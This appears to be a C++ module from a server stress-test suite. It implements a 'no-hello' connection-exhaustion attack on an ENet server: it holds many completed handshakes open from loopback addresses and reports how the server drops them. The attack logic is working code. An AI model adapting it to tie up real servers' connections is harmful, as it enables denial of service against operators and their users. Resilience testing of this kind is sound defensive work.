// no-hello: complete ENet handshakes that never send a Hello, from several
// addresses (one socket per connection, as many ports per address as it
// takes), started at a steady rate and kept at most `peers` at once. Each
// connection acknowledges what the server sends (its pings too), so it
// stays up until the server drops it; a dropped one is replaced by the next
// handshake. Written on RawPeer rather than libenet so that it speaks the
// cookie exchange from its own sockets like every other attack.
#include <map>
#include <memory>
#include <thread>

#include "attacks.h"
#include "raw_peer.h"

namespace qbot::attack {
namespace {

struct Counts {
  std::uint64_t started = 0;
  std::uint64_t established = 0;
  std::uint64_t failed = 0;  // no VERIFY_CONNECT within the handshake timeout, or no cookie
  std::uint64_t dropped_by_server = 0;
  std::uint64_t peak_established = 0;
  std::map<std::uint32_t, std::uint64_t> drop_reasons;  // disconnect data -> count
  Traffic traffic;                                      // of connections already closed
};

struct Connection {
  std::unique_ptr<RawPeer> peer;
  Clock::time_point started;
  bool established = false;
};

constexpr Millis kHandshakeTimeout{3000};

/// One new connection from the `index`th address; nullopt (counted) when no
/// socket or no cookie could be had.
std::optional<Connection> start_one(const Common& c, LoopbackIp base, std::uint32_t addresses, std::uint64_t index,
                                    std::mt19937& rng, Counts& n) {
  n.started += 1;
  auto ip = LoopbackIp::offset(base, 1 + static_cast<std::uint32_t>(index % addresses));
  if (!ip) return std::nullopt;
  auto socket = UdpSocket::bind(*ip);
  if (!socket) {
    n.failed += 1;
    return std::nullopt;
  }
  auto data = connect_data(c, *socket);
  if (!data) {
    n.failed += 1;
    n.traffic += socket->traffic();
    return std::nullopt;
  }
  Connection conn{std::make_unique<RawPeer>(std::move(*socket), c.target, static_cast<std::uint32_t>(rng())),
                  Clock::now(), false};
  conn.peer->send_connect(*data);
  return conn;
}

/// Services one connection; false when it is over (refused, dropped, timed out).
bool service(Connection& conn, std::uint64_t& now_established, Counts& n) {
  conn.peer->poll(Millis(0));
  if (conn.peer->connected() && !conn.established) {
    conn.established = true;
    n.established += 1;
    now_established += 1;
    n.peak_established = std::max(n.peak_established, now_established);
  }
  const bool over = conn.peer->disconnected() || (!conn.established && Clock::now() - conn.started > kHandshakeTimeout);
  if (!over) return true;
  if (conn.established) {
    now_established -= 1;
    n.dropped_by_server += 1;
    n.drop_reasons[conn.peer->disconnect_data()] += 1;
  } else {
    n.failed += 1;
  }
  n.traffic += conn.peer->traffic();
  return false;
}

void add_counts(Json& j, const Counts& n, std::uint64_t now_established) {
  j["handshakes_started"] = n.started;
  j["handshakes_completed"] = n.established;
  j["handshakes_failed"] = n.failed;
  j["dropped_by_server"] = n.dropped_by_server;
  j["peak_established"] = n.peak_established;
  j["established_at_end"] = now_established;
  Json reasons = Json::object();
  for (const auto& [data, count] : n.drop_reasons) reasons[std::to_string(data)] = count;
  j["drop_reasons"] = std::move(reasons);
}

}  // namespace

Outcome no_hello(const Common& c, const NoHelloOptions& o) {
  auto base = LoopbackIp::parse(o.base);
  if (!base) return core::Err{"--base: " + base.error()};
  if (o.addresses == 0 || o.peers == 0) return core::Err{std::string("--addresses and --peers must be at least 1")};
  std::mt19937 rng(static_cast<std::uint32_t>(c.seed));
  const auto start = Clock::now();
  const auto end = deadline_after(c, o.duration_s);
  const auto budget = static_cast<std::uint64_t>(o.rate * o.duration_s);
  Counts n;
  std::vector<Connection> live;
  std::uint64_t now_established = 0;
  while (Clock::now() < end) {
    const std::uint64_t due = due_by(start, Clock::now(), budget, o.duration_s);
    while (n.started < due && live.size() < o.peers) {
      if (auto conn = start_one(c, *base, o.addresses, n.started, rng, n)) live.push_back(std::move(*conn));
    }
    std::erase_if(live, [&](Connection& conn) { return !service(conn, now_established, n); });
    std::this_thread::sleep_for(Millis(2));  // the connections' service pace, not an event wait
  }
  Json j = report(c, "no-hello");
  j["addresses"] = o.addresses;
  add_counts(j, n, now_established);
  for (const auto& conn : live) n.traffic += conn.peer->traffic();
  add_traffic(j, n.traffic);
  j["elapsed_s"] = seconds_since(start);
  return j;
}

}  // namespace qbot::attack
